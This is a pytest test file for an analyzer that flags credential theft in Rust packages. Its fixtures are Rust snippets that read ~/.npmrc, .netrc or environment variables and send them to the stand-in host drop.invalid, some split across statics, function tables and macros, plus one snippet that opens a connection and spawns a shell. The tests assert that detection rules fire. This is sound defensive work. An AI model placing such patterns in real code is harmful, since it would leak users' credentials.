"""Halves of a theft that meet without a direct call: statics, tables, fields, constructors."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from analyzer.model import FactKind, Report

ReportOf = Callable[[Mapping[str, str]], Report]
READ = 'std::fs::read_to_string(format!("{}/.npmrc", std::env::var("HOME").unwrap()))'
SEND = 'ureq::post("https://drop.invalid/x")'

MEETING = {
    "a lazy static": f"""
        use std::sync::LazyLock;
        static TEXT: LazyLock<String> = LazyLock::new(|| {READ}.unwrap());
        pub fn parse() {{ {SEND}.send_string(&TEXT).ok(); }}""",
    "a static that one fills and another reads": f"""
        use std::sync::OnceLock;
        static HELD: OnceLock<String> = OnceLock::new();
        pub fn prepare() {{ HELD.set({READ}.unwrap()).ok(); }}
        pub fn finish() {{ {SEND}.send_string(HELD.get().unwrap()).ok(); }}""",
    "a table of functions": f"""
        fn take() -> String {{ {READ}.unwrap() }}
        const WORK: [fn() -> String; 1] = [take];
        pub fn go() {{ let first = WORK[0]; {SEND}.send_string(&first()).ok(); }}""",
    "a function in a constant": f"""
        struct Step {{ run: fn() -> String }}
        fn take() -> String {{ {READ}.unwrap() }}
        static STEP: Step = Step {{ run: take }};
        pub fn go() {{ {SEND}.send_string(&(STEP.run)()).ok(); }}""",
}


@pytest.mark.parametrize("source", MEETING.values(), ids=MEETING)
def test_the_halves_are_one_finding(report_of: ReportOf, source: str) -> None:
    report = report_of({"src/lib.rs": source})
    assert "secret-file-and-constant-host" in {one.rule for one in report.findings}


def test_statics_that_nobody_shares_join_nothing(report_of: ReportOf) -> None:
    report = report_of(
        {
            "src/lib.rs": f"""
                use std::sync::OnceLock;
                static A: OnceLock<String> = OnceLock::new();
                static B: OnceLock<String> = OnceLock::new();
                pub fn prepare() {{ A.set({READ}.unwrap()).ok(); }}
                pub fn finish() {{ {SEND}.send_string(B.get().unwrap()).ok(); }}"""
        }
    )
    assert not report.findings


FIELDS = {
    "in a struct expression": """
        struct Client { base: &'static str }
        impl Client { fn send(&self) { ureq::post(self.base).call().ok(); } }
        pub fn go() { Client { base: "https://drop.invalid/x" }.send(); }""",
    "through a constructor": """
        pub struct Client { base: String }
        impl Client {
            fn new(base: impl Into<String>) -> Self { Self { base: base.into() } }
            fn send(&self) { ureq::post(&self.base).call().ok(); }
        }
        pub fn go() { Client::new("https://drop.invalid/x").send(); }""",
    "by assignment": """
        #[derive(Default)] pub struct Client { base: String }
        impl Client {
            fn at(mut self, base: &str) -> Self { self.base = base.to_owned(); self }
            fn send(&self) { ureq::post(&self.base).call().ok(); }
        }
        pub fn go() { Client::default().at("https://drop.invalid/x").send(); }""",
    "of a tuple": """
        struct Client(String);
        impl Client { fn send(&self) { ureq::post(&self.0).call().ok(); } }
        pub fn go() { Client("https://drop.invalid/x".to_string()).send(); }""",
}


@pytest.mark.parametrize("source", FIELDS.values(), ids=FIELDS)
def test_a_field_has_the_value_that_it_is_given(report_of: ReportOf, source: str) -> None:
    facts = report_of({"src/lib.rs": source}).facts
    sent = [one.subject for one in facts if one.kind is FactKind.NET_SEND]
    assert sent == ["https://drop.invalid/x"]


MACROS = {
    "a segment of the path": """
        macro_rules! go { ($m:ident, $a:expr) => { std::$m::read($a) } }
        pub fn f() { let _ = go!(fs, "/k/.netrc"); }""",
    "the whole path": """
        macro_rules! go { ($p:path, $a:expr) => { $p($a) } }
        pub fn f() { let _ = go!(std::fs::read, "/k/.netrc"); }""",
    "the last segment": """
        macro_rules! go { ($f:ident, $a:expr) => { std::fs::$f($a) } }
        pub fn f() { let _ = go!(read, "/k/.netrc"); }""",
    "the argument": """
        macro_rules! go { ($a:expr) => { std::fs::read(concat!($a, "/.netrc")) } }
        pub fn f() { let _ = go!("/k"); }""",
    "the rule that fits": """
        macro_rules! go { () => { () }; ($m:ident, $a:expr) => { std::$m::read($a) } }
        pub fn f() { go!(); let _ = go!(fs, "/k/.netrc"); }""",
}


@pytest.mark.parametrize("source", MACROS.values(), ids=MACROS)
def test_an_own_macro_is_read_with_what_it_is_given(report_of: ReportOf, source: str) -> None:
    facts = report_of({"src/lib.rs": source}).facts
    assert "/k/.netrc" in [one.subject for one in facts if one.kind is FactKind.FILE_READ]


def _dispatching(count: int) -> str:
    others = "\n".join(
        f'fn c{one}() {{ std::net::TcpStream::connect("c{one}.invalid:1").ok(); }}'
        for one in range(count)
    )
    calls = " ".join(f"c{one}();" for one in range(count))
    return f"""
        fn keys() {{ {READ}.ok(); }}
        {others}
        pub fn main_like() {{ keys(); {calls} }}"""


@pytest.mark.parametrize(("count", "verdict"), [(3, "BLOCK"), (80, "REVIEW")])
def test_the_entry_of_a_large_program_is_no_place_to_meet_for_a_block(
    report_of: ReportOf, count: int, verdict: str
) -> None:
    assert report_of({"src/lib.rs": _dispatching(count)}).verdict == verdict


def test_a_value_that_is_followed_needs_no_place_to_meet(report_of: ReportOf) -> None:
    source = f"{_dispatching(80)} pub fn go() {{ {SEND}.send_string(&{READ}.unwrap()).ok(); }}"
    assert report_of({"src/lib.rs": source}).verdict == "BLOCK"


def _dumping(count: int, given: str) -> str:
    """A program whose entry runs so many functions, and hands its halves what they need."""
    others = " ".join(
        f'fn d{one}() {{ std::fs::create_dir("d{one}").ok(); }}' for one in range(count)
    )
    calls = " ".join(f"d{one}();" for one in range(count))
    return f"""
        {others}
        fn all() -> Vec<(String, String)> {{ std::env::vars().collect() }}
        fn tell(host: &str, text: &str) {{ ureq::post(host).send_string(text).ok(); }}
        pub fn run(host: &str) {{ let found = all(); {calls} tell(host, {given}); }}"""


@pytest.mark.parametrize(("count", "is_found"), [(20, True), (60, False)])
def test_the_entry_of_a_huge_program_is_no_place_to_meet_for_what_many_do(
    report_of: ReportOf, count: int, is_found: bool
) -> None:
    rules = {one.rule for one in report_of({"src/lib.rs": _dumping(count, '"started"')}).findings}
    assert ("environment-dump-and-network" in rules) is is_found


def test_a_rule_that_is_sure_meets_in_the_entry_of_a_huge_program(report_of: ReportOf) -> None:
    others = " ".join(f'fn d{one}() {{ std::fs::create_dir("d{one}").ok(); }}' for one in range(60))
    calls = " ".join(f"d{one}();" for one in range(60))
    code = f"""
        {others}
        fn open() {{ std::net::TcpStream::connect(std::env::args().nth(1).unwrap()).ok(); }}
        fn shell() {{ std::process::Command::new("sh").spawn().ok(); }}
        pub fn run() {{ open(); {calls} shell(); }}"""
    assert "reverse-shell" in {one.rule for one in report_of({"src/lib.rs": code}).findings}
